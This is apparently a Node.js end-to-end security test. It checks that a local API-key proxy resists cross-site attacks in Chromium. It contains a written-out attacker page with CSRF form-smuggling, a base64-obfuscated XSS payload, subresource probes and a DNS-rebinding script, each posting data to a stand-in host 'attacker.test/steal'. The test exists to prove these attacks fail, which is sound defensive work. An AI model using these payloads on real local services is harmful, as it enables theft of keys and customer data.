// Issue 11, finding 1, end to end in Chromium: a page on another site tries every step of the
// chain that would let it use proxy mode's API key (queue a text/html fault, navigate to a
// payload that runs on the proxy's origin, read the key's data from there), and a rebinding
// page tries to read the proxy's request log and upstream. The upstream (a small Node server
// that records what reaches it) must see no request the attacker caused, and the attacker
// must receive nothing of its data.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { startEmulator } from '../support/emulator.mjs';
import { launchBrowser } from '../support/browser.mjs';
import { activity } from '../support/activity.mjs';

const KEY = 'proxy-only-key-9d41';
const SECRET = 'SECRET-customer-data-5e2b';
const WAIT_MS = 20_000;

/** A loopback HTTP server; `handle(req, body)` gives [status, headers, body]. */
async function server(handle) {
  const seen = [];
  const srv = http.createServer((req, res) => {
    const chunks = [];
    req.on('data', (chunk) => {
      if (chunks.length < 64) chunks.push(chunk);
    });
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      seen.push({ method: req.method, url: req.url, headers: req.headers, body });
      const [status, headers, text] = handle(req, body);
      res.writeHead(status, headers);
      res.end(text);
    });
  });
  await new Promise((resolve) => srv.listen(0, '127.0.0.1', resolve));
  return {
    port: srv.address().port,
    seen,
    close: () =>
      new Promise((resolve) => {
        srv.closeAllConnections();
        srv.close(resolve);
      }),
  };
}

/** The fake upstream: the customer's log holds the secret. */
function upstreamAnswer(req) {
  const secret = activity({
    customerId: 'cust-1001',
    title: SECRET,
    createdByName: 'Ana',
    createdAt: '2026-11-01T10:00:00Z',
  });
  const body = req.url.startsWith('/CustomerActivityLogs/cust-1001') ? [secret] : [];
  return [200, { 'content-type': 'application/json; charset=utf-8' }, JSON.stringify(body)];
}

/** The attacker's page on http://attacker.test:PORT/, written to try every step. */
function attackerPage(proxy, attacker) {
  // Runs on the proxy's origin if the payload ever renders as HTML: read the log through the
  // proxy (which adds the key) until the real data comes, and send it home.
  const xss =
    `(async()=>{for(let i=0;i<6;i++){const t=await (await fetch('/CustomerActivityLogs/cust-1001')).text();` +
    `if(t.includes('${SECRET}')){await fetch('${attacker}/steal',{method:'POST',mode:'no-cors',body:'xss:'+t});return}}})()`;
  const payload = `<img src=x onerror=eval(atob('${Buffer.from(xss).toString('base64')}'))>`;
  return `<!doctype html><meta charset="utf-8"><title>cute cats</title><body><script>
const P = ${JSON.stringify(proxy)};
const HOME = ${JSON.stringify(attacker)};
const target = P + '/CustomerActivityLogs/' + encodeURIComponent(${JSON.stringify(payload)});
const fault = {method: 'GET', times: 1, body: 'wrong-types', contentType: 'text/html'};
const report = (what) => fetch(HOME + '/steal', {method: 'POST', mode: 'no-cors', body: what});
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const load = (tag, attrs) => new Promise((resolve) => {
  const el = document.createElement(tag);
  Object.assign(el, attrs);
  el.onload = el.onerror = resolve;
  document.body.append(el);
  setTimeout(resolve, 2000);
});
(async () => {
  const tries = {};
  const attempt = async (name, step) => {
    try { tries[name] = String(await step()); } catch (error) { tries[name] = 'failed: ' + error; }
  };
  // 1. Queue the fault with requests that need no preflight.
  await attempt('no-cors fault', () => fetch(P + '/__emulator/faults', {method: 'POST', mode: 'no-cors', body: JSON.stringify(fault)}).then((r) => r.type));
  await attempt('form fault', () => {
    // enctype text/plain sends name=value: the JSON closes around the '='.
    const json = JSON.stringify({...fault, retryAfter: 'X'});
    const form = Object.assign(document.createElement('form'), {method: 'POST', action: P + '/__emulator/faults', enctype: 'text/plain', target: 'sink'});
    form.append(Object.assign(document.createElement('input'), {name: json.slice(0, -3), value: '"}'}));
    document.body.append(Object.assign(document.createElement('iframe'), {name: 'sink'}), form);
    form.submit();
    return sleep(1000).then(() => 'submitted');
  });
  await attempt('fault header', () => fetch(target, {headers: {'x-emulator-fault': 'body=wrong-types;content-type=text%2Fhtml'}}).then((r) => r.status));
  await attempt('direct read', () => fetch(P + '/CustomerActivityLogs/cust-1001').then((r) => r.text()).then(report));
  // 2. Navigate to the payload: the proxy's answer, if HTML, runs on the proxy's origin.
  await attempt('iframe', () => load('iframe', {src: target}));
  await sleep(2500);
  await attempt('popup', () => { const w = window.open(target); return sleep(2500).then(() => w && w.close()); });
  // 3. Subresources, which carry no Origin.
  await attempt('img', () => load('img', {src: P + '/CustomerActivityLogs/cust-1001'}));
  await attempt('script', () => load('script', {src: P + '/CustomerActivityLogs/cust-1001'}));
  await attempt('control read', () => fetch(P + '/__emulator/requests').then((r) => r.text()).then(report));
  await sleep(1000);
  await report('done:' + JSON.stringify(tries));
})();
</script>`;
}

/** The rebinding page: served as if from http://rebind.test:PROXY_PORT/, whose name now
 * points at 127.0.0.1, so its same-origin requests reach the proxy with that Host. */
function rebindingPage(attacker) {
  return `<!doctype html><meta charset="utf-8"><title>rebound</title><script>
(async () => {
  for (const path of ['/__emulator/requests', '/__emulator/health', '/CustomerActivityLogs/cust-1001']) {
    let text;
    try { const r = await fetch(path); text = r.status + ' ' + await r.text(); } catch (error) { text = 'failed: ' + error; }
    await fetch(${JSON.stringify(attacker)} + '/steal', {method: 'POST', mode: 'no-cors', body: 'rebind ' + path + ': ' + text});
  }
  await fetch(${JSON.stringify(attacker)} + '/steal', {method: 'POST', mode: 'no-cors', body: 'rebind-done'});
})();
</script>`;
}

async function until(check, what) {
  const deadline = Date.now() + WAIT_MS;
  while (Date.now() < deadline) {
    const value = check();
    if (value) return value;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`timed out waiting for ${what}`);
}

test("a page on another site cannot use the proxy's key, and a rebound name reads nothing", {
  timeout: 90_000,
}, async (t) => {
  const upstream = await server(upstreamAnswer);
  t.after(() => upstream.close());
  const saved = process.env.SKIMMER_API_KEY;
  process.env.SKIMMER_API_KEY = KEY;
  let proxy;
  try {
    proxy = await startEmulator(['--upstream', `http://127.0.0.1:${upstream.port}`]);
  } finally {
    if (saved === undefined) delete process.env.SKIMMER_API_KEY;
    else process.env.SKIMMER_API_KEY = saved;
  }
  t.after(() => proxy.stop());
  const proxyPort = new URL(proxy.url).port;

  let page = '';
  const attacker = await server((req) =>
    req.url === '/' ? [200, { 'content-type': 'text/html; charset=utf-8' }, page] : [204, {}, ''],
  );
  t.after(() => attacker.close());
  const home = `http://attacker.test:${attacker.port}`;
  page = attackerPage(proxy.url, home);
  const stolen = () => attacker.seen.filter((r) => r.url === '/steal').map((r) => r.body);

  // Both attacker names resolve to loopback. Chromium's own Local Network Access checks are off:
  // the proxy must hold without the browser's help (and older browsers give none).
  const browser = await launchBrowser([
    '--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1',
    '--disable-features=LocalNetworkAccessChecks',
  ]);
  t.after(() => browser.close());
  const context = await browser.newContext();

  // The attack from another site.
  const tab = await context.newPage();
  await tab.goto(`${home}/`);
  const done = await until(() => stolen().find((b) => b.startsWith('done:')), 'the attacker page to finish');
  const tries = JSON.parse(done.slice('done:'.length));
  assert.deepEqual(Object.keys(tries).sort(), [
    'control read',
    'direct read',
    'fault header',
    'form fault',
    'iframe',
    'img',
    'no-cors fault',
    'popup',
    'script',
  ]);

  // The rebinding page: its document comes from "the attacker", its requests go to loopback.
  const rebound = `http://rebind.test:${proxyPort}/`;
  await context.route(rebound, (route) =>
    route.fulfill({ status: 200, contentType: 'text/html', body: rebindingPage(home) }),
  );
  const rebindTab = await context.newPage();
  await rebindTab.goto(rebound);
  await until(() => stolen().includes('rebind-done'), 'the rebinding page to finish');
  await new Promise((r) => setTimeout(r, 500));

  assert.deepEqual(
    upstream.seen.map((r) => `${r.method} ${r.url}`),
    [],
    'the upstream saw no request the attacker caused',
  );
  for (const body of stolen()) {
    assert.ok(!body.includes(SECRET), `the attacker got the data: ${body.slice(0, 300)}`);
    assert.ok(!body.includes(String(upstream.port)), `the attacker learnt the upstream: ${body.slice(0, 300)}`);
    assert.ok(!body.includes(KEY), 'the key');
  }
  for (const path of ['/__emulator/requests', '/__emulator/health', '/CustomerActivityLogs/cust-1001']) {
    const seen = stolen().find((b) => b.startsWith(`rebind ${path}: `));
    assert.match(seen, /: 403 /, `${path} was refused to the rebound name: ${seen}`);
  }

  // The control: the proxy works, for a caller of its own (no Origin, loopback Host).
  const legit = await fetch(`${proxy.url}/CustomerActivityLogs/cust-1001`);
  assert.equal(legit.status, 200);
  assert.ok((await legit.text()).includes(SECRET));
  assert.equal(upstream.seen.length, 1);
  assert.equal(upstream.seen[0].headers['skimmer-api-key'], KEY);
});
